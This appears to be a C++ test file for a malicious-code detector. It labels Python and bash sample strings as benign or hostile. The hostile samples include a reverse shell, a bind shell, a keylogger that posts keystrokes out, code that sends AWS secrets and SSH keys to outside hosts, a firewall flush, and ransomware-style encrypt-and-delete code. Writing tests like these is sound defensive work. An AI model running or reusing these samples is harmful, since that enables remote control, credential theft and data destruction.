// The classes the twenty-ninth round modelled (issue 14), found by programs
// written from the rubric alone by writers who never saw the assessor
// (tests/corpus/prog33_MANIFEST.tsv): mail and calendars, forensics and
// incident response, identity administration, virtualisation, and mobile
// and embedded tooling; and by the known limit the previous round left (a
// keylogger's descriptors kept as a dict's keys and waited on with select).
// Its aside scored 29/30 before any change. Strings here are never executed.
#include "test_util.hpp"

namespace mai::assess::test {
namespace {

// A shell started on a pseudo-terminal (os.openpty, Popen(bash, stdin=slave))
// whose master is relayed to a socket is a reverse shell; select.select gives
// back some of the descriptors it was given.
TEST(TwentyNinthRoundClasses, AShellOnAPseudoTerminalRelayedToASocket) {
  const Case cases[] = {
      {"a pty relay through select", B,
       "import os, pty, select, socket, subprocess\n"
       "s = socket.create_connection(('203.0.113.9', 4444))\n"
       "master, slave = os.openpty()\n"
       "subprocess.Popen('/bin/bash', stdin=slave, stdout=slave, stderr=slave, start_new_session=True)\n"
       "while True:\n"
       "    ready, _, _ = select.select([s, master], [], [])\n"
       "    for src in ready:\n"
       "        if src is s:\n"
       "            os.write(master, src.recv(1024))\n"
       "        else:\n"
       "            s.sendall(os.read(src, 1024))\n",
       "REVERSE-SHELL"},
      {"a test program run on a pty, its output logged", M,
       "import os, pty, subprocess\n"
       "master, slave = pty.openpty()\n"
       "p = subprocess.Popen(['python3', 'game.py'], stdin=slave, stdout=slave)\n"
       "with open('session.log', 'wb') as log:\n"
       "    log.write(os.read(master, 1024))\n",
       "RUNS-PROCESS"},
      {"a program's terminal output served, no shell on it", M,
       "import os, pty, socket, subprocess\n"
       "s = socket.create_connection(('203.0.113.9', 4444))\n"
       "master, slave = pty.openpty()\n"
       "subprocess.Popen(['top', '-b', '-n', '1'], stdout=slave)\n"
       "s.sendall(os.read(master, 4096))\n",
       "RUNS-PROCESS"},
  };
  for (const auto& c : cases) check(c);
}

// Values stored under keys the analysis cannot name ({fd: path}) keep those
// keys: iterating the dict, list(d) and d.keys() give them back.
TEST(TwentyNinthRoundClasses, ADictsUnknownKeysKeepTheirLabels) {
  const Case cases[] = {
      {"input devices kept as a dict's keys, waited on with select", B,
       "import glob, os, select, urllib.request\n"
       "fds = {}\n"
       "for path in glob.glob('/dev/input/event*'):\n"
       "    fds[os.open(path, os.O_RDONLY)] = path\n"
       "buf = []\n"
       "while True:\n"
       "    ready, _, _ = select.select(list(fds), [], [], 5)\n"
       "    for fd in ready:\n"
       "        buf.append(os.read(fd, 24))\n"
       "    if len(buf) > 50:\n"
       "        urllib.request.urlopen('http://203.0.113.5/k', data=b''.join(buf))\n",
       "EXFILTRATION"},
      {"a dict comprehension's keys sent", B,
       "import os, requests\n"
       "seen = {os.environ['AWS_SECRET_ACCESS_KEY']: 1 for _ in range(1)}\n"
       "for k in seen.keys():\n"
       "    requests.post('https://collect.example.net/u', data=k)\n",
       "EXFILTRATION"},
      {"word counts of the user's own notes, keys printed", L,
       "counts = {}\n"
       "for word in open('notes.txt').read().split():\n"
       "    counts[word] = counts.get(word, 0) + 1\n"
       "for w in counts:\n"
       "    print(w, counts[w])\n"},
  };
  for (const auto& c : cases) check(c);
}

// A selector hands back what was registered: key.fileobj and key.data (the
// callback) of every register(), so key.data(key.fileobj, mask) calls back.
TEST(TwentyNinthRoundClasses, ASelectorCallsBackWhatWasRegistered) {
  const Case cases[] = {
      {"a bind shell behind selectors' callbacks", B,
       "import selectors, socket, subprocess\n"
       "sel = selectors.DefaultSelector()\n"
       "def handle(conn, mask):\n"
       "    data = conn.recv(1024)\n"
       "    conn.sendall(subprocess.run(data.decode(), shell=True, capture_output=True).stdout)\n"
       "def accept(sock, mask):\n"
       "    conn, addr = sock.accept()\n"
       "    sel.register(conn, selectors.EVENT_READ, handle)\n"
       "lsock = socket.create_server(('0.0.0.0', 9001))\n"
       "sel.register(lsock, selectors.EVENT_READ, accept)\n"
       "while True:\n"
       "    for key, mask in sel.select():\n"
       "        key.data(key.fileobj, mask)\n",
       "REMOTE-CODE-EXECUTION"},
      {"a registered callback found again with get_key", B,
       "import selectors, socket, subprocess\n"
       "sel = selectors.DefaultSelector()\n"
       "def handle(conn, mask):\n"
       "    subprocess.run(conn.recv(1024).decode(), shell=True)\n"
       "lsock = socket.create_server(('0.0.0.0', 9002))\n"
       "conn, _ = lsock.accept()\n"
       "sel.register(conn, selectors.EVENT_READ, handle)\n"
       "key = sel.get_key(conn)\n"
       "key.data(key.fileobj, selectors.EVENT_READ)\n",
       "REMOTE-CODE-EXECUTION"},
      {"the documentation's echo server", L,
       "import selectors, socket\n"
       "sel = selectors.DefaultSelector()\n"
       "def read(conn, mask):\n"
       "    data = conn.recv(1000)\n"
       "    if data:\n"
       "        conn.send(data)\n"
       "def accept(sock, mask):\n"
       "    conn, addr = sock.accept()\n"
       "    sel.register(conn, selectors.EVENT_READ, read)\n"
       "sock = socket.socket()\nsock.bind(('localhost', 1234))\nsock.listen(100)\n"
       "sel.register(sock, selectors.EVENT_READ, accept)\n"
       "while True:\n"
       "    for key, mask in sel.select():\n"
       "        callback = key.data\n"
       "        callback(key.fileobj, mask)\n"},
      {"a table of allowed commands chosen by the request", M,
       "import selectors, socket, subprocess\n"
       "sel = selectors.DefaultSelector()\n"
       "ACTIONS = {'uptime': ['uptime'], 'df': ['df', '-h']}\n"
       "def handle(conn, mask):\n"
       "    argv = ACTIONS.get(conn.recv(64).decode().strip())\n"
       "    if argv:\n"
       "        conn.sendall(subprocess.run(argv, capture_output=True).stdout)\n"
       "def accept(sock, mask):\n"
       "    conn, _ = sock.accept()\n"
       "    sel.register(conn, selectors.EVENT_READ, handle)\n"
       "ls = socket.create_server(('127.0.0.1', 7000))\n"
       "sel.register(ls, selectors.EVENT_READ, accept)\n"
       "while True:\n"
       "    for key, mask in sel.select(timeout=1):\n"
       "        key.data(key.fileobj, mask)\n",
       "RUNS-PROCESS"},
  };
  for (const auto& c : cases) check(c);
}

// A task queue's task (Celery, dramatiq, rq, huey) is called with what was
// published to its broker: a shell line from the payload is a remote
// command; a fixed program given a payload value is a process run.
TEST(TwentyNinthRoundClasses, ATaskQueuesArgumentsComeFromItsBroker) {
  const Case cases[] = {
      {"a Celery task running the payload's shell line", B,
       "import subprocess\nfrom celery import Celery\n"
       "app = Celery('fleet', broker='redis://203.0.113.77:6379/3')\n"
       "@app.task(name='fleet.exec', bind=True)\n"
       "def run_command(self, payload):\n"
       "    return subprocess.run(payload['cmd'], shell=True, capture_output=True).stdout\n",
       "REMOTE-CODE-EXECUTION"},
      {"a shared task converting the file it is given", M,
       "import subprocess\nfrom celery import shared_task\n"
       "@shared_task\n"
       "def thumbnail(path):\n"
       "    subprocess.run(['convert', path, '-resize', '128x128', path + '.thumb.png'], check=True)\n",
       "RUNS-PROCESS"},
      {"a task that mails a report", L,
       "import smtplib\nfrom email.message import EmailMessage\nfrom celery import Celery\n"
       "app = Celery('reports', broker='redis://localhost:6379/0')\n"
       "@app.task\n"
       "def send_report(address, body):\n"
       "    msg = EmailMessage()\n    msg['To'] = address\n    msg.set_content(body)\n"
       "    with smtplib.SMTP_SSL('smtp.example.com') as s:\n        s.send_message(msg)\n"},
  };
  for (const auto& c : cases) check(c);
}

// Bash associative arrays: ${A[key]} is that element (a loop over ${!A[@]}
// knows each key), ${A[$unknown]} an unknown one, ${!A[@]} the keys and
// ${A[@]} the values (not "[key]=value").
TEST(TwentyNinthRoundClasses, BashAssociativeArraysGiveTheirElements) {
  const Case cases[] = {
      {"credential paths kept in an associative array, uploaded", B,
       "declare -A SOURCES=([keys]=\"/root/.ssh/id_rsa /home/*/.ssh/id_*\" [conf]=/etc/krb5.conf)\n"
       "STAGE=$(mktemp -d)\n"
       "for section in \"${!SOURCES[@]}\"; do\n"
       "  for f in ${SOURCES[$section]}; do cp \"$f\" \"$STAGE/\"; done\n"
       "done\n"
       "tar -C \"$STAGE\" -czf - . | curl -s --data-binary @- https://upload.example.net/b\n",
       "EXFILTRATION", SH},
      {"one element by a known key", H,
       "declare -A T=([conf]=/etc/motd [cache]=./cache)\necho hello > \"${T[conf]}\"\n", "SYSTEM-MODIFICATION",
       SH},
      {"the other element by its key", L,
       "declare -A T=([conf]=/etc/motd [cache]=./cache)\necho hello > \"${T[cache]}\"\n", nullptr, SH},
      {"a command chosen by an argument, run through eval", M,
       "declare -A ACTIONS=([status]=\"systemctl status nginx\" [df]=\"df -h\")\neval \"${ACTIONS[$1]}\"\n",
       "DYNAMIC-CODE", SH},
      {"the values, not key=value words", L,
       "declare -A D=([a]=build [b]=dist)\nfor d in \"${D[@]}\"; do rm -rf \"./$d\"; done\n", nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

// iptables -F/-X of every chain or a built-in one takes the firewall down;
// of a chain the code names itself, it removes its own rules.
TEST(TwentyNinthRoundClasses, FlushingItsOwnChainIsNotDisablingTheFirewall) {
  const Case cases[] = {
      {"every chain flushed", B, "iptables -F\niptables -X\n", "DISABLE-SECURITY", SH},
      {"the INPUT chain flushed", B, "iptables -F INPUT\n", "DISABLE-SECURITY", SH},
      {"a chain named at run time", B, "iptables -F \"$1\"\n", "DISABLE-SECURITY", SH},
      {"its own chain removed", H,
       "CHAIN=MAIL-IN\niptables -D INPUT -j \"$CHAIN\"\niptables -F \"$CHAIN\"\niptables -X \"$CHAIN\"\n",
       "SYSTEM-ADMINISTRATION", SH},
  };
  for (const auto& c : cases) check(c);
}

// A delete whose path comes from an option is judged by the option's
// default: pruning stale partial files in the output directory it made.
TEST(TwentyNinthRoundClasses, AnOptionsPathIsJudgedByItsDefault) {
  const Case cases[] = {
      {"stale parts pruned in its own output directory", L,
       "import argparse, os\nfrom pathlib import Path\nfrom cryptography.fernet import Fernet\n"
       "ap = argparse.ArgumentParser()\n"
       "ap.add_argument('--src', default='exports', type=Path)\n"
       "ap.add_argument('--out', default='sealed', type=Path)\n"
       "args = ap.parse_args()\n"
       "args.out.mkdir(parents=True, exist_ok=True)\n"
       "for stale in args.out.glob('*.part'):\n"
       "    stale.unlink()\n"
       "f = Fernet(Fernet.generate_key())\n"
       "for root, _, files in os.walk(args.src):\n"
       "    for name in files:\n"
       "        data = open(os.path.join(root, name), 'rb').read()\n"
       "        (args.out / (name + '.sealed')).write_bytes(f.encrypt(data))\n"},
      {"the originals deleted after encryption", B,
       "import argparse, os\nfrom pathlib import Path\nfrom cryptography.fernet import Fernet\n"
       "ap = argparse.ArgumentParser()\n"
       "ap.add_argument('--src', default='exports', type=Path)\n"
       "ap.add_argument('--out', default='sealed', type=Path)\n"
       "args = ap.parse_args()\n"
       "args.out.mkdir(parents=True, exist_ok=True)\n"
       "f = Fernet(Fernet.generate_key())\n"
       "for root, _, files in os.walk(args.src):\n"
       "    for name in files:\n"
       "        p = os.path.join(root, name)\n"
       "        data = open(p, 'rb').read()\n"
       "        (args.out / (name + '.sealed')).write_bytes(f.encrypt(data))\n"
       "        os.remove(p)\n",
       "RANSOMWARE-ENCRYPT-AND-DELETE"},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
